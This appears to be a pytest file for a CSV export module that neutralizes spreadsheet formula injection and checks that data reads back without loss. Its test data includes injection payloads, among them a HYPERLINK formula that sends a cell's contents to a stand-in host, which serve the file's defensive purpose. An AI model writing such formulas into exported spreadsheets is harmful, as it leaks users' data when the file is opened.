"""CSV for spreadsheets: nothing in it is run, numbers stay numbers, and it is read back without loss."""

from __future__ import annotations

import ast
import csv

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from t2onet.data.spreadsheet import from_csv, neutralize, restore, to_csv
from tests.conftest import ROOT

FORMULAS = [
    *('=HYPERLINK("http://example.com/?"&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "-"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "-2 stops", "+10 contrast", "'=1+1", "''@x"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_be_run_begins_with_an_apostrophe(text: str) -> None:
    assert neutralize(text) == f"'{text}"
    assert restore(f"'{text}") == text


@pytest.mark.parametrize("cell", [-0.5, -3, "-0.5", "+3", "-1.5e-07", "-.5", ".5", 7, None, True])
def test_numbers_stay_numbers(cell: object) -> None:
    assert neutralize(cell) is cell


@pytest.mark.parametrize(
    "text", ["'tis too dark", "a = b", "make it warmer - a little", "", "'quoted'", "5 %"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutralize(text) == restore(text) == text


@given(st.text(st.sampled_from("'=+-@ \t\r\n\",;1.eab")))
@example("'-5")
@example("\r")
def test_reading_back_is_lossless(text: str) -> None:
    assert from_csv(to_csv([["before", "text"], ["x", text]])) == [{"before": "x", "text": text}]


@given(st.text(st.sampled_from("'=+-@ \t1a"), min_size=1))
def test_a_written_cell_begins_like_a_formula_only_if_it_is_a_number(text: str) -> None:
    ((cell,),) = csv.reader([to_csv([[text]])])
    if cell.lstrip().startswith(("=", "+", "-", "@")):
        assert float(cell) == float(text)


def test_every_csv_is_written_here() -> None:
    """No other module has a writer of its own."""
    package = ROOT / "t2onet"
    names = {"csv.writer", "csv.DictWriter"}
    found = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in names
    }
    assert found == {"data/spreadsheet.py"}
